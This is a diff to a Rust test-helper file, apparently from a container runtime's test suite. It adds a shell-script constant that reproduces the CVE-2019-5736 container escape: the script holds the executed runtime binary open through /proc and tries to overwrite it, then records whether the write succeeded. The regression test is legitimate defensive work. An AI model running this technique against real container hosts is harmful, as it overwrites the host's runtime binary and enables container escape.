@@ -24,6 +24,15 @@ pub fn lacking() -> Option<&'static str> {
     None
 }
 
+/// Runs in a container, for CVE-2019-5736: holds the file of whatever is executed as `spell` open, and when
+/// nobody executes it any more (`/tmp/go`) tries to write to it.
+pub const SPY: &str = "ln -s /proc/self/exe /bin/spell; touch /tmp/ready; \
+    while [ ! -e /tmp/held ]; do for p in /proc/[0-9]*; do read c < $p/comm; [ \"$c\" = spell ] || continue; \
+    (exec 9< $p/exe; touch /tmp/held; while [ ! -e /tmp/go ]; do :; done; \
+    while :; do (echo evil > /proc/self/fd/9) 2>/tmp/why && echo written > /tmp/result && exit; \
+    case $(cat /tmp/why) in *busy*) ;; *) echo refused > /tmp/result; exit;; esac; done); done; done 2>/dev/null; \
+    exec sleep 1000";
+
 /// Ends the test, counted as run, with the reason printed.
 #[macro_export]
 macro_rules! need_host {
